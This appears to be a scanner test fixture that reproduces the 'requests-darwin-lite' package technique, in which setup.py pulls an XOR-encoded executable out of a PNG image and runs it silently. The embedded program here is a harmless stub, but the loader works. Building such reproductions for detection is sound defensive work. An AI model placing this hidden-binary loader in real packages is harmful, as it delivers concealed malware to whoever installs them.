# incident: requests-darwin-lite (2024): setup.py takes a program out of a picture that came with the package and runs it
# finding: program-unpacked-by-script
# needs: python3 gcc
echo 'int main(void) { return 0; }' > p.c && gcc -o p p.c
python3 - <<'PY'
open("logo-large.png", "wb").write(b"\x89PNG\r\n\x1a\n" + b"\0" * 30000 + bytes(b ^ 0x5a for b in open("p", "rb").read()))
PY
rm p p.c
cat > setup.py <<'PY'
import os, subprocess, tempfile
from setuptools.command.install import install
class Post(install):
    pass
data = open("logo-large.png", "rb").read()[30008:]
path = os.path.join(tempfile.mkdtemp(), "output")
open(path, "wb").write(bytes(b ^ 0x5a for b in data))
os.chmod(path, 0o755)
subprocess.Popen([path, "-u", "here"], close_fds=True, stderr=subprocess.DEVNULL, stdout=subprocess.DEVNULL, start_new_session=True).wait()
PY
python3 setup.py
